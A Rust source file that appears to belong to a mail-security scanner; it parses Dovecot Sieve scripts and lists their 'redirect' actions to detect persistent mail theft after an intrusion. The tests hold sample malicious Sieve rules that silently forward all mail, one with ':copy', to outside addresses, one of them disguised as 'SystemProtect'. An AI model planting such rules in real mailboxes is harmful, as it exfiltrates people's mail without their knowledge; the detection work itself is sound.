//! Sieve scripts kept beside the mailboxes (`sieve/*.sieve`, Dovecot
//! Pigeonhole): the `redirect` actions they hold. A redirect to an outside
//! address is how RoundPress-style intrusions keep reading mail after the
//! intruder has gone (THREATS.md §2).

/// One `redirect` action.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Redirect {
    /// The line of the address (1-based).
    pub line: u64,
    /// The address mail goes to.
    pub address: String,
    /// `:copy`: the owner keeps a copy and notices nothing.
    pub copy: bool,
}

/// Scripts larger than this are read only this far.
pub const MAX_SCRIPT_BYTES: usize = 1 << 20;

#[derive(Debug, PartialEq)]
enum Token {
    Word(String),
    Tag(String),
    Str(String, u64),
    Other,
}

/// Tokens of a script: identifiers, `:tags`, strings (quoted and `text:`
/// multi-line) with their line, comments skipped.
fn tokens(script: &str) -> Vec<Token> {
    let mut out = Vec::new();
    let mut line = 1u64;
    let mut chars = script.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => line += 1,
            '#' => {
                for c in chars.by_ref() {
                    if c == '\n' {
                        line += 1;
                        break;
                    }
                }
            }
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                let mut last = ' ';
                for c in chars.by_ref() {
                    if c == '\n' {
                        line += 1;
                    }
                    if last == '*' && c == '/' {
                        break;
                    }
                    last = c;
                }
            }
            '"' => {
                let start = line;
                let mut text = String::new();
                while let Some(c) = chars.next() {
                    match c {
                        '\\' => text.extend(chars.next()),
                        '"' => break,
                        c => {
                            if c == '\n' {
                                line += 1;
                            }
                            text.push(c);
                        }
                    }
                }
                out.push(Token::Str(text, start));
            }
            ':' => {
                let tag: String = std::iter::from_fn(|| {
                    chars.next_if(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-')
                })
                .collect();
                out.push(Token::Tag(tag.to_ascii_lowercase()));
            }
            c if c.is_ascii_alphabetic() || c == '_' => {
                let mut word = c.to_string();
                word.extend(std::iter::from_fn(|| {
                    chars.next_if(|c| c.is_ascii_alphanumeric() || *c == '_')
                }));
                let word = word.to_ascii_lowercase();
                if word == "text" && chars.peek() == Some(&':') {
                    // text: … up to a line holding only "."
                    chars.next();
                    let start = line;
                    let mut body = String::new();
                    for c in chars.by_ref() {
                        if c == '\n' {
                            line += 1;
                            if body.ends_with("\n.") || body == "." {
                                break;
                            }
                        }
                        body.push(c);
                    }
                    out.push(Token::Str(body, start));
                } else {
                    out.push(Token::Word(word));
                }
            }
            c if c.is_whitespace() => {}
            _ => out.push(Token::Other),
        }
    }
    out
}

/// The `redirect` actions of a script (its text, at most [`MAX_SCRIPT_BYTES`]).
pub fn redirects(script: &str) -> Vec<Redirect> {
    let tokens = tokens(script);
    let mut found = Vec::new();
    for (i, token) in tokens.iter().enumerate() {
        if *token != Token::Word("redirect".into()) {
            continue;
        }
        let mut copy = false;
        for next in &tokens[i + 1..] {
            match next {
                Token::Tag(tag) => copy |= tag == "copy",
                Token::Str(address, line) => {
                    found.push(Redirect {
                        line: *line,
                        address: address.trim().to_string(),
                        copy,
                    });
                    break;
                }
                _ => break,
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundcube_and_managesieve_scripts_give_their_redirects() {
        let roundcube = "require [\"copy\"];\n# rule:[sync]\nif true\n{\n\tredirect :copy \"collector@exfil.example\";\n}\n";
        assert_eq!(
            redirects(roundcube),
            [Redirect {
                line: 5,
                address: "collector@exfil.example".into(),
                copy: true
            }]
        );
        let spypress = "require [\"fileinto\",\"copy\"];\n/* redirect \"not@this.one\"; */\n# rule:[SystemProtect]\nif true { REDIRECT \"advenwolf@proton.me\"; keep; }\n";
        let found = redirects(spypress);
        assert_eq!(found.len(), 1);
        assert_eq!(
            (found[0].line, found[0].address.as_str(), found[0].copy),
            (4, "advenwolf@proton.me", false)
        );
        assert!(redirects("redirect").is_empty());
        assert!(redirects("\"unterminated").is_empty());
    }
}
